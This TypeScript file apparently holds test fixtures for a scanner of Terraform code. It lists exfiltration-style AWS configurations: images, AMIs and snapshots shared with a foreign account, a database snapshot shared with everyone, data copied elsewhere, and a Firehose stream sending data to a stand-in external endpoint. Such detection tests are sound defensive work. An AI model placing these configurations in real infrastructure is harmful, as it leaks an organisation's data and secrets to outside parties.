import { type Attack, STRANGER, own } from "./attack";

/** Images, snapshots and streams that leave the account or the region. */
export const COPY_ATTACKS: readonly Attack[] = [
  own(
    "cluster",
    "registry-replication",
    "images are copied to another account",
    ["foreign-names"],
    `
resource "aws_ecr_replication_configuration" "a" {
  replication_configuration {
    rule {
      destination {
        region      = "us-east-1"
        registry_id = "${STRANGER}"
      }
    }
  }
}`,
  ),
  own(
    "cluster",
    "registry-pull-through",
    "images of a public registry come in under our own name",
    ["pull-through"],
    `
resource "aws_ecr_pull_through_cache_rule" "a" {
  ecr_repository_prefix = "a"
  upstream_registry_url = "public.ecr.aws"
}`,
  ),
  own(
    "cluster",
    "key-replica",
    "a copy of a key in the account",
    ["foreign-names"],
    `
resource "aws_kms_replica_key" "a" { primary_key_arn = "arn:aws:kms:us-east-1:222233334444:key/mrk-0a1b2c3d0a1b2c3d0a1b2c3d0a1b2c3d" }`,
  ),
  own(
    "cluster",
    "image-shared",
    "a machine image is shared with another account",
    ["policy-principals", "foreign-names"],
    `
resource "aws_ami_launch_permission" "a" {
  image_id   = "ami-0a1b2c3d4e5f60718"
  account_id = "${STRANGER}"
}`,
  ),
  own(
    "cluster",
    "snapshot-shared",
    "a snapshot is shared with another account",
    ["policy-principals", "foreign-names"],
    `
resource "aws_snapshot_create_volume_permission" "a" {
  snapshot_id = "snap-0a1b2c3d4e5f60718"
  account_id  = "${STRANGER}"
}`,
  ),
  own(
    "cluster",
    "database-snapshot-shared",
    "a snapshot of a database is shared with everyone",
    ["policy-principals"],
    `
resource "aws_db_snapshot" "a" {
  db_instance_identifier = "a"
  db_snapshot_identifier = "a"
  shared_accounts        = ["all"]
}`,
  ),
  own(
    "cluster",
    "database-replication",
    "backups of a database are copied",
    ["foreign-names"],
    `
resource "aws_db_instance_automated_backups_replication" "a" {
  source_db_instance_arn = "arn:aws:rds:us-east-1:222233334444:db:a"
}`,
  ),
  own(
    "cluster",
    "secret-replica",
    "a secret is copied to another region",
    ["foreign-names"],
    `
resource "aws_secretsmanager_secret" "a" {
  name       = "a"
  kms_key_id = aws_kms_key.cluster.arn
  replica { region = "us-east-1" }
}`,
  ),
  own(
    "cluster",
    "data-transfer",
    "a task copies data to another place",
    ["foreign-names"],
    `
resource "aws_datasync_task" "a" {
  source_location_arn      = "arn:aws:datasync:ap-southeast-2:222233334444:location/loc-0a1b2c3d4e5f60718"
  destination_location_arn = "arn:aws:datasync:ap-southeast-2:${STRANGER}:location/loc-0a1b2c3d4e5f60718"
}`,
  ),
  own(
    "cluster",
    "stream-out",
    "a stream sends data to a foreign server",
    ["foreign-names", "log-destinations"],
    `
resource "aws_kinesis_firehose_delivery_stream" "a" {
  name        = "a"
  destination = "http_endpoint"
  http_endpoint_configuration {
    url      = "https://a.example.com"
    role_arn = aws_iam_role.nodes.arn
    s3_configuration {
      bucket_arn = "arn:aws:s3:::stranger"
      role_arn   = aws_iam_role.nodes.arn
    }
  }
}`,
  ),
];
